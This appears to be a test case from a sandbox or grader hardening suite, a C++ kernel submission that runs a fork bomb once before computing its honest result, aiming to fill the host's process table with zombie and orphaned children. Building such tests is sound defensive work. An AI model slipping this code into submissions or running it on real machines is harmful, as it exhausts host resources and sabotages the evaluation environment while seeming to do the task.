// SPDX-License-Identifier: MIT
// class: Host: fork bombs
// tries: to fill the process table with zombies: children that are not waited for, half of them handed to init.
// expect: passed failed timed_out
#include "attack.h"

static void attack()
{
	for (int i = 0; i < 20000; i++) {
		pid_t pid = fork();
		if (pid < 0)
			break;
		if (pid == 0) {
			if (i % 2)
				fork();
			_exit(0);
		}
	}
}

void custom_kernel(const input_t &input, output_t &output)
{
	static int once = (tried(), attack(), 0);
	(void)once;
	honest(input, output);
}
